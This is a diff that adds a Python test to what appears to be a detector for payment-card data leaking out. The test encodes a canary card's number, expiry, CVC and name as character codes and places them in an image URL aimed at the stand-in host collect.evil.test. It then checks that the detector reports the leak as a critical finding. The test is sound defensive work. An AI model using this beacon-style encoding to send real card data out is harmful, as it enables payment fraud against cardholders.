@@ -151,3 +151,16 @@ def test_per_sighting_evidence_does_not_change_the_finding() -> None:
     assert len(findings) == 2 and findings[0].fingerprint == findings[1].fingerprint
     assert findings[0].content_hash == findings[1].content_hash
     assert findings[0].evidence["_canary_tag"] != findings[1].evidence["_canary_tag"]
+
+
+def test_a_short_value_counts_only_under_the_card_numbers_encoding() -> None:
+    # ruleid: SG501 — char codes of "number|exp|cvc|name"; the CVC "124" also appears in the raw
+    # text as the code of "|". The encoding reported is the card number's, and the raw "124" does
+    # not vouch for the CVC (it is found again in the decoded text, by the same chain).
+    canary = dataclasses.replace(CANARY, cvc="124")
+    codes = ",".join(str(ord(ch)) for ch in joined(canary))
+    url = f"http://collect.evil.test/i.gif?c={codes}"
+    findings = run(out(Channel.URL, url, url), canary=canary)
+    assert brief(findings) == [("SG501", "critical", "payment", "collect.evil.test|url")]
+    assert findings[0].evidence["encoding_chains"][0] == "charcodes"
+    assert findings[0].title.endswith("(image url, charcodes)")
